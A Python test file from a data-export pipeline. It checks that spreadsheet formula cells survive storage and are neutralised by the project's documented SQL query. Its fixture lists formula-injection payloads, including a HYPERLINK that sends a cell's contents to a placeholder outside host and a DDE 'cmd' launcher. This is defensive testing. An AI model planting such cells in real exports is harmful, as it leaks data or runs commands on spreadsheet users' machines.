"""Cells that a spreadsheet would run: kept as they came, and harmless by the query that the manual gives."""

import csv
import gzip
import io
import re
from contextlib import closing
from pathlib import Path

import boto3
import pytest

from sandbox.athena.warehouse import Warehouse, glue_schema
from sandbox.aws.stack import DATABASE, Stack
from sandbox.spaaza.answers import csv_answer
from sandbox.spaaza.users import HEADER
from spaaza_snapshots.model.snapshot_id import SnapshotId
from tests.support.committed import CHAIN, DAY, stored_parquet
from tests.support.conversions import build
from tests.support.flow import invoke
from tools.documents import ROOT

RUN = (
    '=HYPERLINK("https://elsewhere.example/?"&B2,"Jane")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
)
KEPT = ("Jane", "O'Hara", "a=b", " =1", "", "'=1")
FILLED = ("ID", "First name", "Town/City")
EMPTY = tuple(name for name in HEADER if name not in FILLED)


@pytest.fixture
def csv_bytes() -> bytes:
    users = [(str(number), cell, cell, *("" for _ in EMPTY)) for number, cell in enumerate(RUN + KEPT, 1)]
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([(*FILLED, *EMPTY), *users])
    return text.getvalue().encode()


def test_a_formula_is_kept_in_the_export_and_in_its_typed_copy(stack: Stack, tmp_path: Path, csv_bytes: bytes) -> None:
    taken(stack, csv_bytes)
    assert gzip.decompress(stack.read(SnapshotId(CHAIN, DAY).raw_key)) == csv_bytes
    _, names, rows = stored_parquet(stack.s3, stack.bucket, tmp_path)
    assert sorted(str(row[names.index("first_name")]) for row in rows) == sorted(RUN + KEPT)


def test_the_query_of_the_manual_takes_a_formulas_effect_and_leaves_every_other_cell(
    stack: Stack, tmp_path: Path, csv_bytes: bytes
) -> None:
    taken(stack, csv_bytes)
    with closing(Warehouse(glue_schema(boto3.client("glue"), DATABASE), DAY.isoformat())) as warehouse:
        warehouse.load(stack.s3, stack.bucket, tmp_path)
        told = {row["id"]: (row["first_name"], row["town_city"]) for row in warehouse.ask(query_of_the_manual())}
    wanted = [*("'" + cell for cell in RUN), *KEPT]
    assert told == {number: (cell, cell) for number, cell in enumerate(wanted, 1)}


def taken(stack: Stack, csv_bytes: bytes) -> None:
    stack.spaaza.serve(csv_answer(csv_bytes))
    assert invoke(stack)["status"] == "complete"
    build(stack)


def query_of_the_manual() -> str:
    _, _, rest = (ROOT / "docs" / "QUERYING.md").read_text(encoding="utf-8").partition("## Into a spreadsheet")
    (sql,) = re.findall(r"^```sql\n(.*?)^```", rest.partition("\n## ")[0], re.MULTILINE | re.DOTALL)
    return str(sql)
